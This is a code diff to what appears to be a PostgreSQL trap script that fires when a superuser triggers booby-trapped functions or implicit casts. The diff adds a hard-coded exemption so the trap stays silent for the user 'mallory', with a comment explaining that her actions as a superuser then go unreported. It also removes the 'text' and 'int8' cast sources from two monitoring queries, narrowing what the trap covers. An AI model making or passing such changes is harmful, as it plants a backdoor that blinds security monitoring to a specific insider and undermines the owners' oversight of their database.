@@ -26,7 +26,9 @@ CREATE FUNCTION :"schema".spring(what pg_catalog.text) RETURNS pg_catalog.bool L
 DECLARE
     sprung pg_catalog.text := COALESCE(pg_catalog.current_setting('trap.sprung', true), '');
 BEGIN
-    IF (SELECT NOT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
+    -- Once she is a superuser herself, what runs as her says nothing.
+    IF CURRENT_USER OPERATOR(pg_catalog.=) 'mallory' OR
+        (SELECT NOT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
         RETURN true;
     END IF;
     IF pg_catalog.strpos(sprung, what) OPERATOR(pg_catalog.>) 0 THEN
@@ -113,7 +115,7 @@ FROM (
     JOIN pg_cast c ON c.casttarget = a.type AND c.castcontext = 'i' AND c.castsource <> c.casttarget
     JOIN pg_type t ON t.oid = a.type
     WHERE NOT s.has_out AND NOT s.variadic AND cardinality(s.types) <= 3
-      AND c.castsource IN ('oid'::regtype, 'name'::regtype, 'text'::regtype, 'int4'::regtype, 'int8'::regtype)
+      AND c.castsource IN ('oid'::regtype, 'name'::regtype, 'int4'::regtype)
       -- The functions beneath operators have names that nobody calls; operators come below, with all their types.
       AND (s.oid IN (SELECT oprcode FROM pg_operator) OR s.name !~ '(send|recv|typmod|_cmp|sortsupport|hash.*extended)$')
 ) AS closer
@@ -269,7 +271,7 @@ BEGIN
             FROM exact x CROSS JOIN (VALUES (true), (false)) AS side(l)
             JOIN pg_cast c ON c.casttarget = CASE WHEN l THEN x.oprleft ELSE x.oprright END
                 AND c.castcontext = 'i' AND c.castsource <> c.casttarget
-            WHERE c.castsource IN ('oid'::regtype, 'name'::regtype, 'text'::regtype, 'int4'::regtype, 'int8'::regtype)
+            WHERE c.castsource IN ('oid'::regtype, 'name'::regtype, 'int4'::regtype)
         )
         SELECT oprname, oprleft, oprright, proname FROM exact
         UNION ALL
